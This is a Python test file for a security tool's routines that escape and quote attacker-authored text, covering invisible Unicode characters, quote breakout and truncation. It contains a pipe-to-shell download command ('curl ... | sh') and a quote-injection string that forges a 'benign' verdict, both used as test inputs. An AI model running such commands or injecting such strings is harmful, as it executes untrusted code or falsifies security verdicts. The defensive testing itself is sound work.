"""Attacker-authored text as people see it."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchfloor_core.untrusted import escape_untrusted, quote_untrusted

_ANY_TEXT = st.text(st.characters(codec=None))
"""All code points, lone surrogates too."""


@pytest.mark.parametrize(
    ("name", "character", "shown"),
    [
        ("line feed", "\n", "\\u{000A}"),
        ("carriage return", "\r", "\\u{000D}"),
        ("tabulator", "\t", "\\u{0009}"),
        ("NUL", "\0", "\\u{0000}"),
        ("escape, which starts ANSI sequences", "\x1b", "\\u{001B}"),
        ("delete", "\x7f", "\\u{007F}"),
        ("control sequence introducer of C1", "\x9b", "\\u{009B}"),
        ("next line", "\x85", "\\u{0085}"),
        ("line separator", "\u2028", "\\u{2028}"),
        ("paragraph separator", "\u2029", "\\u{2029}"),
        ("right-to-left override", "\u202e", "\\u{202E}"),
        ("first strong isolate", "\u2068", "\\u{2068}"),
        ("Arabic letter mark", "\u061c", "\\u{061C}"),
        ("zero-width space", "\u200b", "\\u{200B}"),
        ("zero-width joiner", "\u200d", "\\u{200D}"),
        ("word joiner", "\u2060", "\\u{2060}"),
        ("soft hyphen", "\u00ad", "\\u{00AD}"),
        ("byte order mark", "\ufeff", "\\u{FEFF}"),
        ("no-break space", "\u00a0", "\\u{00A0}"),
        ("tag letter A", "\U000e0041", "\\u{E0041}"),
        ("variation selector", "\ufe0f", "\\u{FE0F}"),
        ("supplementary variation selector", "\U000e0101", "\\u{E0101}"),
        ("Hangul filler", "\u3164", "\\u{3164}"),
        ("Braille blank", "\u2800", "\\u{2800}"),
        ("lone surrogate", "\ud800", "\\u{D800}"),
        ("private use", "\ue000", "\\u{E000}"),
        ("noncharacter", "\uffff", "\\u{FFFF}"),
    ],
)
def test_what_cannot_be_seen_is_shown_by_its_code_point(name: str, character: str, shown: str) -> None:
    assert escape_untrusted(f"a{character}b") == f"a{shown}b"


def test_text_that_people_can_read_stays_as_it_is() -> None:
    for text in ("curl -s http://x/y | sh", "grüße", "日本語", "Ελληνικά", "שלום", "naïve ☃", ""):
        assert escape_untrusted(text) == text


def test_a_quote_inside_cannot_end_the_quotation() -> None:
    assert quote_untrusted('x" verdict="benign') == '"x\\" verdict=\\"benign"'


def test_text_that_looks_like_an_escape_is_told_from_one() -> None:
    assert quote_untrusted("\\u{001B}") == '"\\\\u{001B}"'
    assert quote_untrusted("\x1b") == '"\\u{001B}"'


def test_long_text_is_cut_and_the_cut_is_counted() -> None:
    assert quote_untrusted("A" * 1000, 4) == '"AAAA"…(+996 characters)'
    assert quote_untrusted("AAAA", 4) == '"AAAA"'


@given(_ANY_TEXT)
def test_no_text_gives_anything_invisible(text: str) -> None:
    for shown in (escape_untrusted(text), quote_untrusted(text)):
        assert all(c == " " or unicodedata.category(c)[0] not in "CZ" for c in shown)
        shown.encode()


@given(_ANY_TEXT, st.integers(min_value=0, max_value=50))
def test_a_quotation_ends_only_where_it_says(text: str, limit: int) -> None:
    shown = quote_untrusted(text, limit)
    body = shown.rpartition("…(+")[0] if len(text) > limit else shown
    assert body.startswith('"')
    assert body.endswith('"')
    inside = body[1:-1].replace("\\\\", "").replace('\\"', "")
    assert '"' not in inside
    assert not inside.endswith("\\")
